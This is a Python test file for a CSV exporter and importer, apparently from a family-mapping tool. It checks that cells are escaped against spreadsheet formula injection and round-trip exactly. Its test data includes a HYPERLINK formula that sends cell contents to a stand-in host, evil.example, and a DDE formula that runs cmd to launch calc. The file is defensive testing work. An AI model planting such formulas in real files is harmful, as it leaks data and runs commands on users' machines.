"""CSV formula injection (issue 20): a cell that starts with =, +, -, @, a tab or a carriage
return is written so that Excel and LibreOffice read it as text (a leading apostrophe, the
cell quoted), and the importer takes the apostrophe away again so the round trip is exact,
also for a name that really starts with an apostrophe."""

from __future__ import annotations

import csv
import io

import pytest

from skymap.cli import main
from skymap.export.csv_export import as_text, csv_text
from skymap.model.document import MapDocument
from skymap.model.merge import apply_contact_list
from skymap.model.objects import Actor, FamilyMember, Link
from skymap.model.template import new_map
from skymap.model.vocabulary import LinkKind
from skymap.storage.csv_import import parse_contact_list
from skymap.storage.mapfile import save_map

NASTY = ['=HYPERLINK("http://evil.example/?q="&A1,"Klik")', "+45 1234 5678", "-2+3", "@SUM(A1:A9)",
         "=DDE(\"cmd\";\"/C calc\";\"A0\")", "'Apostrof", "''To", "'=Both"]


def a_map():
    m = new_map("standard", family_name="Hansen", lang="en")
    doc = MapDocument(m)
    school = m.domains[0].id
    doc.add("family", FamilyMember(id="f1", name=NASTY[0], notes="-minus først"))
    for i, name in enumerate(NASTY[1:]):
        doc.add("actors", Actor(id=f"a{i}", name=name, role=NASTY[(i + 2) % len(NASTY)], organisation="@org",
                                notes="\tindrykket" if i % 2 else "\r\nlinje", domain=school))
        doc.add("links", Link(id=f"c{i}", kind=LinkKind.CONTACT, source=f"a{i}", target="f1"))
    doc.add("links", Link(id="k1", kind=LinkKind.COORDINATION, source="a0", target="a4"))
    return doc.map


@pytest.mark.parametrize("lang", ["da", "en"])
def test_no_cell_starts_as_a_formula(lang):
    text = csv_text(a_map(), lang)
    sep = ";" if lang == "da" else ","
    for row in list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The bytes: each escaped cell quoted, the apostrophe inside the quotes.
    assert '"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Klik"")"' in text
    assert f'"\'+45 1234 5678"{sep}' in text and '"\'@SUM(A1:A9)"' in text
    assert "\"''Apostrof\"" in text and "\"'''To\"" in text
    assert "\"'\tindrykket\"" in text


def test_as_text_leaves_ordinary_cells_alone():
    for cell in ("Hanne Lund", "", "Sofie [stærk/ugentlig]", "1985", "ja", "a =b", "x'"):
        assert as_text(cell) == cell
    assert as_text(" =after a space") == "' =after a space" and as_text(" '") == "' '"


@pytest.mark.parametrize("notes", [" '", "  =1+1", " 'quoted", "'", "''"])
def test_a_text_with_spaces_before_an_apostrophe_or_formula_reads_back_trimmed(notes):
    """The importer trims a cell's ends (as it always has): what comes back is the text
    trimmed, never with an apostrophe lost or gained."""
    m = a_map()
    m.actors[0] = m.actors[0].model_copy(update={"notes": notes})
    contacts = parse_contact_list(("\ufeff" + csv_text(m, "en")).encode("utf-8"), "list.csv")
    row = next(r for r in contacts.rows if r.name == m.actors[0].name)
    assert row.notes.strip() == notes.strip()


@pytest.mark.parametrize("lang", ["da", "en"])
def test_the_round_trip_is_exact(lang):
    m = a_map()
    contacts = parse_contact_list(("\ufeff" + csv_text(m, lang)).encode("utf-8"), "list.csv")
    rows = {r.name: r for r in contacts.rows}
    assert set(rows) == {p.name for p in (*m.family, *m.actors)}
    for a in m.actors:
        row = rows[a.name]
        assert (row.role, row.organisation, row.notes) == (a.role, a.organisation, a.notes)
        assert row.contact_with == [NASTY[0]]
    assert rows["+45 1234 5678"].coordinates_with == ["'Apostrof"]  # (an escaped cell holding a name with its own)
    doc = MapDocument(new_map("empty", lang=lang))
    apply_contact_list(doc, contacts.rows, contacts.columns, lang=lang)
    assert sorted(p.name for p in (*doc.map.family, *doc.map.actors)) == sorted(NASTY)


def test_skymap_export_writes_the_escaped_list_and_import_reads_it_back(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("LANG", "en_GB.UTF-8")
    path, out, back = tmp_path / "map.json", tmp_path / "list.csv", tmp_path / "back.json"
    save_map(a_map(), path)
    assert main(["export", str(path), "-o", str(out)]) == 0
    raw = out.read_bytes().decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in raw and "\"'@SUM(A1:A9)\"" in raw
    assert main(["import", str(out), "-o", str(back), "--template", "empty"]) == 0
    from skymap.storage.mapfile import load_map

    names = sorted(p.name for m in [load_map(back)] for p in (*m.family, *m.actors))
    assert names == sorted(NASTY)
